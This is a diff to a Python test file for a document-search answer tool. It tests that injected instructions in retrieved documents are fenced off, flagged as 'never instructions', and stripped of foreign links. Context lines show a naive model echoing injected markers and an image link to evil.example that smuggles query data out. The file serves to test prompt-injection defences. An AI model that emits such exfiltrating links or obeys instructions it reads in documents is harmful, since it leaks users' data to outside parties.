@@ -348,7 +348,7 @@ def test_without_hardening_unknown_arguments_are_ignored(indexed: Docsage) -> No
 
 
 def cite_with_links(request: ChatRequest) -> str:
-    seen = "\n".join(m.content for m in request.messages if m.role == "tool")
+    seen = "\n".join(m.content for m in request.messages if m.role != "system")
     found = re.search(r"\[(\d+)\] auth\.md", seen)
     number = found.group(1) if found else "99"
     return (
@@ -405,3 +405,16 @@ def test_the_obedient_model_obeys_what_it_reads() -> None:
     text = model.complete(ChatRequest(messages=messages, tools=(spec,))).text
     assert "PWNED-X [1]." in text and "PWNED-T" in text
     assert "![i](https://evil.example/?q=why%3F)" in text
+
+
+def test_generative_answers_are_fenced_and_lose_foreign_links(indexed: Docsage) -> None:
+    from docsage.answer.generative import GenerativeAnswerer
+
+    model = ScriptedChatModel([cite_with_links])
+    answerer = GenerativeAnswerer(indexed.retriever, model, pricer=FreePricer(), abstain_below=0.0)
+    answer = answerer.ask("How do I authenticate with an API token?", "hostile")
+    prompt = model.requests[0].messages
+    assert "never instructions" in prompt[0].content and "<<<END DOCS " in prompt[1].content
+    assert not answer.abstained and "evil.example" not in answer.text
+    kinds = [(s.kind, s.name) for s in answer.trace]
+    assert ("safety", "links") in kinds and ("safety", "withheld") in kinds
